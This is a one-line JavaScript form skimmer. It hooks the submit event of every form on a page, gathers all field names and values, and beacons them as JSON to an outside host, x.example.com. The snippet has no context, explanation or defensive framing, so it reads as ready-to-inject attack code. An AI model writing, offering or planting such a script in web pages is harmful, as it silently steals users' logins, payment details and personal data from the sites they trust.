document.querySelectorAll('form').forEach(f=>f.addEventListener('submit',()=>{const d={};new FormData(f).forEach((v,k)=>d[k]=v);navigator.sendBeacon('https://x.example.com/s',JSON.stringify(d));}));
